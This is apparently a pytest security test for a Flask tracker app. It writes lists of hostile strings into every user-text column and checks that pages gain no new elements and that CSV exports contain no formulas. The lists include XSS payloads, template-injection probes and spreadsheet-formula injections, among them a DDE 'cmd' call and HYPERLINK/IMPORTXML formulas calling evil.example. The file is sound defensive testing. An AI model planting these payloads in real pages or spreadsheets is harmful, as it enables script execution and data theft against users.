"""Markup and formulas in every text that people type: no new element on a page, and no formula in a spreadsheet.

Every text column gets the same hostile text, as if its form had accepted it; each page must then have exactly the
elements and attributes that it has with harmless text.
"""

import csv
import io
import re
from collections.abc import Callable, Iterator

import html5lib
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Column, Enum, String, Text, text

from tests.conftest import STANDARDS
from tests.factories import World
from tests.inspection import PlainClient
from tests.library.centre_units import read_unit
from tests.proof.proof_size import choose_size, record_figures
from tests.web.test_routes import TABLE, Prepare, SampleRequests, list_methods
from tracker.extensions import db
from tracker.models import Base, Person
from tracker.units.formats import spreadsheet

pytestmark = pytest.mark.one_database

Browser = Callable[[Person], FlaskClient]
Shape = list[tuple[str, tuple[str, ...]]]

MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>1</script></svg>",
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<b>bold</b>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>", "<form action=//evil.example><input name=password>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<math><mi xlink:href=data:x>", "<!-- comment",
    "<![CDATA[x]]>", "<?php x ?>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</select><script>1</script>", "</td></tr></table><p>out", "</p></div></main><h1>out</h1>", '"><script>alert(1)</script>',
    "' onmouseover='alert(1)", '" onmouseover="alert(1)', "` onmouseover=`alert(1)", 'x" style="position:fixed', "&lt;b&gt;",
    "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e", "＜script＞", "{{ 7*7 }}", "{% raw %}", "${7*7}", "#{7*7}",
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "javascript:alert(1)", "data:text/html,<script>1</script>",
    "<<script>script>alert(1)<</script>/script>", "<scr\u200bipt>", "<p\nonclick=alert(1)>",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example","x")', "=cmd|'/c calc'!A0",
    "＝1+1", "＋1", "－1", "＠x", '=IMPORTXML("http://evil.example")', "|=1+1",
]  # fmt: skip
NO_WORDS = re.compile("hash|sha256|token|key|slug|code|media|email|address|snapshot|document|reading|working|session|"
                      "suites|head|signature|certificate|number|format|version|state|type|location|body|label|source|kind|outcome")  # fmt: skip
"""Columns with text that the product itself writes and reads."""
LIVE = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def texts() -> list[Column[str]]:
    """Return every column of text that people type, except those of the published standards."""
    return [
        column
        for table in Base.metadata.sorted_tables
        if table.name
        not in STANDARDS
        | {"event", "event_text", "notification", "installation", "integrity_check_run", "signing_key"}
        for column in table.columns
        if isinstance(column.type, String | Text)
        and not isinstance(column.type, Enum)
        and not column.foreign_keys
        and not column.primary_key
        and not NO_WORDS.search(column.name)
    ]


def put_everywhere(words: str) -> None:
    """Write the text into every column that has one, bypassing the triggers that protect signed rows."""
    db.session.rollback()
    if db.session.get_bind().dialect.name == "postgresql":
        db.session.execute(text("SET LOCAL session_replication_role = replica"))
    else:
        for name in db.session.scalars(text("SELECT name FROM sqlite_master WHERE type = 'trigger'")).all():
            db.session.execute(text(f"DROP TRIGGER {name}"))
    for column in texts():
        length = getattr(column.type, "length", None)
        statement = column.table.update().where(column != "")
        db.session.execute(statement.values({column.name: words[:length] if length else words}))
    db.session.commit()


def harmless(words: str) -> str:
    """Return a harmless text of the same length and line breaks."""
    return re.sub(r"[^\n]", "x", words.replace("\r", "\n"))


def shape(page: str) -> Shape:
    parsed = html5lib.parse(page, namespaceHTMLElements=False)
    return [(str(each.tag), tuple(sorted(each.attrib))) for each in parsed.iter()]


def pages(sample: SampleRequests, browsers: dict[str, FlaskClient]) -> Iterator[tuple[str, str, Shape]]:
    """Yield actor, endpoint and shape of each page that a person may open."""
    for endpoint in sorted(TABLE):
        actor = next(iter(sorted(TABLE[endpoint] & set(browsers))), None)
        if actor is None or ("GET", endpoint) not in list_methods(sample.app)[endpoint]:
            continue
        answer = browsers[actor].get(sample.address(endpoint, "GET"))
        if answer.mimetype == "text/html":
            yield actor, endpoint, shape(answer.text)
        answer.close()


def test_no_text_becomes_an_element_of_a_page(
    app: Flask, world: World, client: Browser, prepare: Prepare, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(app, "test_client_class", PlainClient)
    sample = SampleRequests(app, world, prepare)
    browsers = {name: client(sample.people[name]) for name in ("alice", "bob", "carol", "dan", "eve")}
    list(pages(sample, browsers))  # once, so that the access log has its rows already
    payloads, compared = (MARKUP + FORMULAS)[:: choose_size(20, 1)], 0
    for words in payloads:
        put_everywhere(harmless(words))
        before = {(actor, endpoint): shape_of_page for actor, endpoint, shape_of_page in pages(sample, browsers)}
        put_everywhere(words)
        for actor, endpoint, shape_of_page in pages(sample, browsers):
            assert shape_of_page == before[actor, endpoint], (words, actor, endpoint)
            compared += 1
    assert len(texts()) > 35
    record_figures(payloads=len(payloads), fields=len(texts()) * len(payloads), pages=compared, new_nodes=0)


def test_no_cell_of_an_exported_spreadsheet_is_a_formula() -> None:
    """A spreadsheet program reads every exported text of a unit as text."""
    cells = 0
    for words in MARKUP + FORMULAS:
        text = words.strip() or "x"
        sheet = spreadsheet.write([read_unit(title=text[:200])]).body.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(sheet)):
            assert not any(cell.startswith(LIVE) for cell in row), (words, row)
            cells += len(row)
    record_figures(cells=cells, live=0)
